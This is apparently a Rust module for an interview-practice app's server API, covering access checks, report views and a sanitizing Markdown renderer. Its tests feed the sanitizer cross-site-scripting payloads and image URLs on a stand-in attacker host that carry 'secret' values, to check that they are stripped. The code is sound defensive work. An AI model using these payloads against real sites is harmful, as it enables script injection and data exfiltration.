//! Interview operations behind the server functions: the ownership check, then one call into
//! the interview service, then a conversion for the browser.

use super::errors::{internal, retry_after, status};
use super::guard::Caller;
use crate::api::ApiError;
use rehearse_auth::policy;
use rehearse_interview::flow::{Difficulty, Kind};
use rehearse_interview::service::ServiceError;
use rehearse_interview::store::{Interview, Message, Status};
use rehearse_types::{
    CompetencyPoint, InterviewSummary, InterviewView, MessageView, ReportView, ScoreView,
};

fn parse<T: for<'de> serde::Deserialize<'de>>(value: &str, what: &str) -> Result<T, ApiError> {
    serde_json::from_value(serde_json::Value::String(value.to_owned()))
        .map_err(|_| status(ApiError::Invalid(format!("Unknown {what}."))))
}

fn service_error(e: ServiceError) -> ApiError {
    match e {
        ServiceError::NotFound => status(ApiError::NotFound),
        ServiceError::UnknownRole => status(ApiError::Invalid("Unknown role.".into())),
        ServiceError::Invalid(m) => status(ApiError::Invalid(m)),
        ServiceError::Over => status(ApiError::Invalid("This interview is over.".into())),
        ServiceError::Busy => retry_after(
            ApiError::Conflict(
                "The interviewer is still answering. Your message was not sent; send it again in a moment.".into(),
            ),
            2,
        ),
        ServiceError::Overloaded { retry_after_secs } => retry_after(
            ApiError::Busy {
                message: format!(
                    "The interviewer is busy with other candidates right now. Please try again in {retry_after_secs} s; nothing was started."
                ),
                retry_after_secs,
            },
            retry_after_secs,
        ),
        ServiceError::KeyReused => status(ApiError::Invalid(
            "This message was already sent with different text. Reload the page to see the conversation.".into(),
        )),
        ServiceError::Quota(exceeded) => super::errors::quota(exceeded),
        // Only a background turn meets its deadline; a request never waits for one.
        e @ ServiceError::Deadline(_) => internal(e),
        ServiceError::Db(e) => internal(e),
    }
}

/// Loads an interview the caller may see: its owner, or staff.
async fn visible(ctx: &Caller, id: &str) -> Result<Interview, ApiError> {
    let interview = ctx
        .state
        .interviews
        .store()
        .get(id)
        .await
        .map_err(internal)?
        .ok_or_else(|| status(ApiError::NotFound))?;
    policy::require_owner_or(Some(&ctx.actor), &interview.user_id, policy::STAFF)
        .map_err(super::guard::refused)?;
    Ok(interview)
}

/// Loads an interview the caller may write in: only its owner.
async fn owned(ctx: &Caller, id: &str) -> Result<Interview, ApiError> {
    let interview = visible(ctx, id).await?;
    policy::require_owner_or(Some(&ctx.actor), &interview.user_id, &[])
        .map_err(super::guard::refused)?;
    Ok(interview)
}

pub async fn start(
    ctx: &Caller,
    role: &str,
    kind: &str,
    difficulty: &str,
    focus: Option<&str>,
) -> Result<String, ApiError> {
    super::limits::admit(ctx, super::limits::Action::StartInterview)?;
    let kind: Kind = parse(kind, "interview type")?;
    let difficulty: Difficulty = parse(difficulty, "difficulty")?;
    if focus.is_some_and(|f| f.len() > 80) {
        return Err(status(ApiError::Invalid("Unknown competency.".into())));
    }
    let interview = ctx
        .state
        .interviews
        .start_focused(&ctx.actor.user_id, role, kind, difficulty, focus)
        .await
        .map_err(service_error)?;
    Ok(interview.id)
}

pub async fn history(ctx: &Caller) -> Result<Vec<InterviewSummary>, ApiError> {
    let list = ctx
        .state
        .interviews
        .store()
        .for_user(&ctx.actor.user_id)
        .await
        .map_err(internal)?;
    Ok(list
        .into_iter()
        .map(|i| InterviewSummary {
            id: i.id,
            role_title: i.role_title,
            kind: label(&i.kind),
            status: status_text(i.status).to_owned(),
            started_at: rehearse_db::format_ms(i.created_at),
            started_at_ms: i.created_at,
            competencies: i.report.as_ref().map(competency_scores).unwrap_or_default(),
            overall: i.report.map(|r| r.overall),
            role_slug: i.role_slug,
        })
        .collect())
}

pub async fn detail(ctx: &Caller, id: &str) -> Result<InterviewView, ApiError> {
    let interview = visible(ctx, id).await?;
    let messages = ctx
        .state
        .interviews
        .store()
        .messages(id)
        .await
        .map_err(internal)?;
    let turn_failed = ctx
        .state
        .interviews
        .turn_failed(&interview)
        .await
        .map_err(service_error)?;
    Ok(InterviewView {
        can_write: interview.user_id == ctx.actor.user_id && interview.status != Status::Done,
        turn_failed,
        id: interview.id,
        role_title: interview.role_title,
        kind: label(&interview.kind),
        difficulty: label(&interview.difficulty),
        status: status_text(interview.status).to_owned(),
        pause_reason: interview.pause_reason,
        messages: messages.into_iter().map(message_view).collect(),
        report: interview.report.map(report_view),
    })
}

/// A report's scores averaged per competency, in the order the report lists them.
/// Reports made before the closed competency list carry labels of their own ("Rust",
/// "Databases"): those are mapped again from the requirement, so progress is charted on one list.
fn competency_scores(r: &rehearse_interview::scoring::Report) -> Vec<CompetencyPoint> {
    use rehearse_knowledge::Competency;
    let mut out: Vec<(String, u32, u32)> = Vec::new();
    for s in &r.scores {
        let label = match Competency::from_label(&s.competency) {
            Some(c) => c.label(),
            None => Competency::of(&s.requirement).label(),
        };
        match out.iter_mut().find(|(c, ..)| c == label) {
            Some((_, sum, n)) => {
                *sum += u32::from(s.score);
                *n += 1;
            }
            None => out.push((label.to_owned(), u32::from(s.score), 1)),
        }
    }
    out.into_iter()
        .map(|(competency, sum, n)| CompetencyPoint {
            competency,
            score: sum as f32 / n as f32,
        })
        .collect()
}

/// A report as the candidate reads it (also in their data export).
pub(crate) fn report_view(r: rehearse_interview::scoring::Report) -> ReportView {
    let percent = |x: f32| (x.clamp(0.0, 1.0) * 100.0).round() as u8;
    ReportView {
        overall: r.overall,
        scores: r
            .scores
            .into_iter()
            .map(|s| ScoreView {
                strong_answer: s.coaching.as_ref().map(|c| c.strong_answer.clone()),
                fell_short: s.coaching.and_then(|c| c.fell_short),
                competency: s.competency,
                requirement_id: s.requirement_id,
                requirement: s.requirement,
                score: s.score,
                evidence: s.evidence,
                rationale: s.rationale,
                source: s.source,
                signals: s.signals.map(|g| rehearse_types::SignalsView {
                    relevance: percent(g.relevance),
                    substance: percent(g.substance),
                    coherence: percent(g.coherence),
                    specificity: percent(g.specificity),
                    depth: percent(g.depth),
                }),
            })
            .collect(),
        strengths: r.strengths,
        improvements: r.improvements,
        degraded: r.degraded,
    }
}

pub async fn send(ctx: &Caller, id: &str, text: &str, key: &str) -> Result<MessageView, ApiError> {
    // Charged before the interview is read: a refused send stores nothing and queues no turn.
    super::limits::admit(ctx, super::limits::Action::SendMessage)?;
    let interview = owned(ctx, id).await?;
    let submitted = ctx
        .state
        .interviews
        .submit(&interview, text, key)
        .await
        .map_err(service_error)?;
    let message = match submitted {
        rehearse_interview::store::Submitted::New(m)
        | rehearse_interview::store::Submitted::Duplicate(m) => m,
    };
    Ok(message_view(message))
}

pub async fn stop(ctx: &Caller, id: &str) -> Result<bool, ApiError> {
    owned(ctx, id).await?;
    Ok(ctx.state.interviews.live().stop(id))
}

pub async fn resume(ctx: &Caller, id: &str) -> Result<(), ApiError> {
    let interview = owned(ctx, id).await?;
    ctx.state
        .interviews
        .resume(&interview)
        .await
        .map_err(service_error)
}

/// Plays again a turn that failed for good (the candidate pressed Retry).
pub async fn retry_turn(ctx: &Caller, id: &str) -> Result<(), ApiError> {
    let interview = owned(ctx, id).await?;
    ctx.state
        .interviews
        .retry_turn(&interview)
        .await
        .map_err(service_error)
}

fn label<T: serde::Serialize>(value: &T) -> String {
    serde_json::to_value(value)
        .ok()
        .and_then(|v| v.as_str().map(|s| s.replace('_', " ")))
        .unwrap_or_default()
}

fn status_text(status: Status) -> &'static str {
    match status {
        Status::Active => "active",
        Status::Paused => "paused",
        Status::Done => "done",
    }
}

/// Renders a message's Markdown to HTML through an explicit allow-list. The text may come from
/// the candidate, the model or a job description, and reviewers read it too, so none of it may
/// run script, restyle the page or make a reader's browser fetch anything by itself:
///
/// - no images at all: `![alt](url)` shows its alt text, raw `<img>` is dropped (an image URL
///   is fetched on sight and can carry what the model was told, to anyone's server);
/// - links only to `http`, `https` and `mailto` URLs (no relative, `javascript:` or `data:`),
///   with `rel="noopener noreferrer nofollow"`, no `target`, and `class="external"`, which
///   `style/tailwind.css` marks with a trailing arrow; a Markdown link to anything else is
///   shown as its text;
/// - text structure only: paragraphs, emphasis, code, quotes, lists, headings, rules; no
///   attributes besides `href` and a list's `start`.
///
/// This is the one function that turns stored text into HTML for `inner_html`.
pub fn render_markdown(text: &str) -> String {
    use pulldown_cmark::{Event, LinkType, Tag, TagEnd};
    let parser =
        pulldown_cmark::Parser::new_ext(text, pulldown_cmark::Options::ENABLE_STRIKETHROUGH);
    // Whether each open Markdown link is kept (links do not nest, but track them anyway).
    let mut links: Vec<bool> = Vec::new();
    let events = parser.filter(|event| match event {
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => false,
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            ..
        }) => {
            // An email autolink's destination is the bare address; `mailto:` is added on output.
            let keep = *link_type == LinkType::Email || allowed_link(dest_url);
            links.push(keep);
            keep
        }
        Event::End(TagEnd::Link) => links.pop().unwrap_or(false),
        _ => true,
    });
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, events);
    markdown_sanitizer().clean(&html).to_string()
}

/// URL schemes a message may link to.
const LINK_SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// Whether a Markdown link's destination is one [`LINK_SCHEMES`] allows. The sanitizer checks
/// every `href` again; this only keeps a refused link's text from rendering as a dead anchor.
fn allowed_link(url: &str) -> bool {
    let lower = url.trim_start().to_ascii_lowercase();
    LINK_SCHEMES.iter().any(|scheme| {
        lower
            .strip_prefix(scheme)
            .is_some_and(|rest| rest.starts_with(':'))
    })
}

/// The HTML allow-list for rendered messages (see [`render_markdown`]).
fn markdown_sanitizer() -> ammonia::Builder<'static> {
    use std::collections::{HashMap, HashSet};
    let tags = HashSet::from([
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "strong",
        "ul",
    ]);
    let attributes = HashMap::from([
        ("a", HashSet::from(["href"])),
        ("ol", HashSet::from(["start"])),
    ]);
    let mut builder = ammonia::Builder::default();
    builder
        .tags(tags)
        .tag_attributes(attributes)
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::from(LINK_SCHEMES))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "class", "external");
    builder
}

/// Text as HTML text content (job-description passages are data, never markup).
fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

/// Shown instead of an answer that failed the grounding check.
pub const HELD_NOTICE: &str =
    "This answer is being checked by a reviewer before it is shown to you.";

/// A message as the candidate sees it: Markdown rendered and sanitised, the job-description
/// passages an answer cites listed under it, and a held answer replaced by a notice and the
/// time it was held (never its text).
pub fn message_view(m: Message) -> MessageView {
    let held_since_ms = m.held.then_some(m.created_at);
    let html = if m.held {
        format!("<p class=\"italic text-slate-500\" data-testid=\"held\">{HELD_NOTICE}</p>")
    } else if m.citations.is_empty() {
        render_markdown(&m.content)
    } else {
        let items: String = m
            .citations
            .iter()
            .map(|c| {
                format!(
                    "<li data-chunk=\"{}\"><strong>[{}]</strong> <em>{}</em>: {}</li>",
                    escape(&c.chunk_id),
                    c.marker,
                    escape(&c.section),
                    escape(&c.text)
                )
            })
            .collect();
        format!(
            "{}<ol class=\"mt-2 list-none border-l-2 border-slate-300 pl-2 text-xs text-slate-600\" data-testid=\"citations\">{items}</ol>",
            render_markdown(&m.content)
        )
    };
    MessageView {
        id: m.id,
        seq: m.seq,
        author: m.author.as_str().to_owned(),
        html,
        held_since_ms,
    }
}

#[cfg(test)]
mod tests {
    use super::render_markdown;

    #[test]
    fn old_report_labels_are_charted_on_the_closed_list() {
        use rehearse_interview::scoring::{CompetencyScore, Report};
        let score = |competency: &str, requirement: &str, score: u8| CompetencyScore {
            requirement_id: "r1".into(),
            competency: competency.into(),
            requirement: requirement.into(),
            score,
            evidence: None,
            rationale: String::new(),
            source: None,
            signals: None,
            coaching: None,
        };
        let report = Report {
            scores: vec![
                score(
                    "Databases",
                    "Design PostgreSQL schemas, indexes and transactions",
                    2,
                ),
                score(
                    "Databases and data modelling",
                    "Deep knowledge of SQL databases",
                    4,
                ),
                score(
                    "Rust",
                    "Write safe, fast asynchronous services in Rust with tokio",
                    5,
                ),
            ],
            overall: 3.7,
            strengths: Vec::new(),
            improvements: Vec::new(),
            degraded: None,
        };
        let points = super::competency_scores(&report);
        let labels: Vec<&str> = points.iter().map(|p| p.competency.as_str()).collect();
        assert_eq!(
            labels,
            vec!["Databases and data modelling", "Programming languages"]
        );
        assert_eq!(points[0].score, 3.0);
    }

    #[test]
    fn markdown_is_sanitised() {
        let html = render_markdown("**bold** <script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)>");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(!html.contains("<script"));
        assert!(!html.contains("javascript:"));
        assert!(!html.contains("onerror"));
    }

    /// Nothing in `html` makes a browser fetch anything by itself.
    fn inert(html: &str) {
        for banned in [
            "<img", "<source", "<image", "<svg", "<picture", "src", "href", "evil",
        ] {
            assert!(!html.contains(banned), "{banned} survived: {html}");
        }
    }

    #[test]
    fn raw_images_are_dropped() {
        for input in [
            "<img src=https://evil.example/x.png>",
            "<img src=\"https://evil.example/x.png?d=secret\" alt=x>",
            "<p><img srcset=\"https://evil.example/x.png 1x\"></p>",
            "<picture><source srcset=https://evil.example/x.png></picture>",
            "<svg><image href=https://evil.example/x.png /></svg>",
        ] {
            inert(&render_markdown(input));
        }
    }

    #[test]
    fn markdown_images_show_their_alt_text_only() {
        let html = render_markdown("see ![the chart](https://evil.example/p.png?secret=42) here");
        inert(&html);
        assert!(!html.contains("secret"), "{html}");
        assert!(html.contains("the chart"), "{html}");
        let reference = render_markdown("![x][img]\n\n[img]: https://evil.example/p.png");
        inert(&reference);
        let linked = render_markdown("[![logo](https://evil.example/l.png)](https://example.com/)");
        assert!(!linked.contains("evil"), "{linked}");
        assert!(linked.contains("href=\"https://example.com/\""), "{linked}");
    }

    #[test]
    fn script_and_data_links_lose_their_target_but_keep_their_text() {
        for input in [
            "[a](javascript:alert(1))",
            "[a](JavaScript:alert(1))",
            "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[a](vbscript:msgbox)",
            "[a](/admin/users)",
            "[a](//evil.example/x)",
            "<a href=\"javascript:alert(1)\">a</a>",
            "<a href=\"data:text/html,hi\">a</a>",
        ] {
            let html = render_markdown(input);
            assert!(!html.contains("href"), "{input}: {html}");
            assert!(!html.contains("javascript"), "{input}: {html}");
            assert!(!html.contains("data:"), "{input}: {html}");
            assert!(html.contains('a'), "{input}: {html}");
        }
        let markdown = render_markdown("[a](javascript:alert(1))");
        assert!(
            !markdown.contains("<a"),
            "a refused Markdown link is plain text: {markdown}"
        );
    }

    #[test]
    fn web_links_are_marked_external_and_open_nothing_new() {
        let html = render_markdown("Read [the docs](https://example.com/docs?a=1&b=2).");
        assert!(
            html.contains("href=\"https://example.com/docs?a=1&amp;b=2\""),
            "{html}"
        );
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\""),
            "{html}"
        );
        assert!(html.contains("class=\"external\""), "{html}");
        assert!(html.contains(">the docs</a>"), "{html}");
        assert!(!html.contains("target"), "{html}");

        let raw = render_markdown(
            "<a href=\"http://example.com\" target=\"_blank\" rel=\"opener\" onclick=\"x()\" title=t>x</a>",
        );
        assert!(raw.contains("href=\"http://example.com\""), "{raw}");
        assert!(
            raw.contains("rel=\"noopener noreferrer nofollow\""),
            "{raw}"
        );
        assert!(!raw.contains("target") && !raw.contains("onclick") && !raw.contains("opener\""));

        let auto = render_markdown("<https://example.com/a>");
        assert!(auto.contains("href=\"https://example.com/a\""), "{auto}");
        assert!(auto.contains("class=\"external\""), "{auto}");
    }

    #[test]
    fn mailto_links_are_kept() {
        let html = render_markdown("Write to [the recruiter](mailto:jobs@example.com).");
        assert!(html.contains("href=\"mailto:jobs@example.com\""), "{html}");
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\""),
            "{html}"
        );
        let auto = render_markdown("<jobs@example.com>");
        assert!(auto.contains("href=\"mailto:jobs@example.com\""), "{auto}");
    }

    #[test]
    fn text_structure_survives() {
        let html = render_markdown(
            "# Plan\n\n1. one\n2. *two*\n\n> quoted\n\n```\nlet x = 1;\n```\n\n~~old~~ `code`",
        );
        for tag in [
            "<h1>",
            "<ol>",
            "<li>",
            "<em>",
            "<blockquote>",
            "<pre>",
            "<code>",
            "<del>",
        ] {
            assert!(html.contains(tag), "{tag} missing: {html}");
        }
    }
}
